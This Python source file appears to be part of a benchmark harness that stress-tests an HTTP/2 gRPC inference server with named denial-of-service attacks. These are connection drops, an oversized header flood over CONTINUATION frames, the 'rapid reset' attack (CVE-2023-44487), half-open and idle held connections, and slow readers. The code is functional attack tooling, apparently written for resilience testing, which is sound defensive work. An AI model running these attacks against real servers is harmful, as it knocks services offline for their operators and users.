"""What peers that mean harm do, once, in front of an address: each attack by its name."""

import asyncio
import struct
from collections.abc import Awaitable, Callable
from typing import Final

import hpack

from bench.http2.frame import (
    ACK,
    CANCEL,
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES,
    HEADERS,
    INITIAL_WINDOW,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
)
from bench.http2.service import SERVICE

CONTINUATION: Final = 9
# Eight frames as large as every peer takes: many times what `limits.metadata_bytes` lets through.
FLOOD_BYTES: Final = 128 * 1024
# Calls that are taken back, on each connection.
CALLS: Final = 100
# Requests on each stream whose answers nobody reads.
UNREAD: Final = 128
GIVE_UP_S: Final = 0.5
# What an attack does once, in front of an address.
Attack = Callable[[str], Awaitable[None]]


async def open_connection(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A connection on which nothing was said."""
    host, _, port = address.rpartition(":")
    return await asyncio.open_connection(host, int(port))


class DroppedConnections:
    """Connections opened and dropped, every other one after the HTTP/2 preface."""

    def __init__(self) -> None:
        self._count = 0

    async def __call__(self, address: str) -> None:
        """Open one, and drop it."""
        _, writer = await open_connection(address)
        self._count += 1
        if self._count % 2:
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
        writer.transport.abort()


class HeaderFlood:
    """A header block far beyond the limit, over eight frames, on a connection of its own."""

    def __init__(self) -> None:
        field = b"\x00\x07x-flood\x7f\x81\x01" + b"x" * 256  # a literal of 256 bytes, RFC 7541 6.2.2 and 5.1
        block = (field * (FLOOD_BYTES // len(field) + 1))[:FLOOD_BYTES]
        starts = range(0, FLOOD_BYTES, FRAME_BYTES)
        self._frames = PREFACE + frame(SETTINGS, 0, 0)
        for start in starts:
            last = END_HEADERS if start == starts[-1] else 0
            kind = CONTINUATION if start else HEADERS
            self._frames += frame(kind, last, 1, block[start : start + FRAME_BYTES])

    async def __call__(self, address: str) -> None:
        """Send it, and stay until the server closes, GIVE_UP_S at most."""
        reader, writer = await open_connection(address)
        try:
            async with asyncio.timeout(GIVE_UP_S):
                writer.write(self._frames)
                while await reader.read(65536):
                    pass
        finally:
            writer.transport.abort()


class RapidReset:
    """Calls opened and taken back at once, CALLS on a connection of its own (CVE-2023-44487, "rapid reset").

    Args:
        body: a serialized ModelInferRequest.
    """

    def __init__(self, body: bytes) -> None:
        self._message = b"\0" + struct.pack("!I", len(body)) + body

    async def __call__(self, address: str) -> None:
        """Open and take back, and stay until all was taken in or the server closes, GIVE_UP_S at most."""
        reader, writer = await open_connection(address)
        block = hpack.Encoder().encode(call_headers(address, "ModelInfer"))
        taken_back = struct.pack("!I", CANCEL)
        writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        for stream in range(1, 2 * CALLS, 2):
            opened = frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, self._message)
            writer.write(opened + frame(RST_STREAM, 0, stream, taken_back))
        try:
            async with asyncio.timeout(GIVE_UP_S):
                writer.write(frame(PING, 0, 0, bytes(8)))
                answered = frame(PING, ACK, 0, bytes(8))
                received = b""
                while answered not in received and (more := await reader.read(65536)):
                    received = received[-len(answered) :] + more
        finally:
            writer.transport.abort()


class HeldConnections:
    """Connections that are held without another word.

    Args:
        said: the only one.
    """

    def __init__(self, said: bytes) -> None:
        self.held: list[asyncio.StreamWriter] = []
        self._said = said

    async def __call__(self, address: str) -> None:
        """Hold one more."""
        _, writer = await open_connection(address)
        writer.write(self._said)
        self.held.append(writer)


# They agree on their settings.
IDLE: Final = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
# They stop in the middle of a word.
HALF_OPEN: Final = PREFACE[: len(PREFACE) // 2]


class SlowReaders:
    """Streams full of requests whose answers are never read: the window for them is closed from the start.

    Args:
        body: a serialized ModelInferRequest.
    """

    def __init__(self, body: bytes) -> None:
        self.held: list[asyncio.StreamWriter] = []
        self._message = b"\0" + struct.pack("!I", len(body)) + body

    async def __call__(self, address: str) -> None:
        """Hold one more."""
        _, writer = await open_connection(address)
        closed = struct.pack(">HI", INITIAL_WINDOW, 0)
        writer.write(PREFACE + frame(SETTINGS, 0, 0, closed) + frame(SETTINGS, ACK, 0))
        writer.write(frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(call_headers(address, "ModelStreamInfer"))))
        for _ in range(min(UNREAD, 60_000 // len(self._message))):  # what the first window of a stream holds
            writer.write(frame(DATA, 0, 1, self._message))
        self.held.append(writer)


def call_headers(address: str, method: str) -> list[tuple[str, str]]:
    """The header of a call."""
    path = f"{SERVICE}/{method}"
    about = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address)]
    return [*about, ("content-type", "application/grpc"), ("te", "trailers"), ("x-tenant-id", "attacker")]


def make_attack(kind: str, body: bytes) -> Attack:
    """An attack by its name."""
    kinds: dict[str, Callable[[], Attack]] = {
        "drops": DroppedConnections,
        "headers": HeaderFlood,
        "half-open": lambda: HeldConnections(HALF_OPEN),
        "idle": lambda: HeldConnections(IDLE),
        "resets": lambda: RapidReset(body),
        "slow-readers": lambda: SlowReaders(body),
    }
    return kinds[kind]()
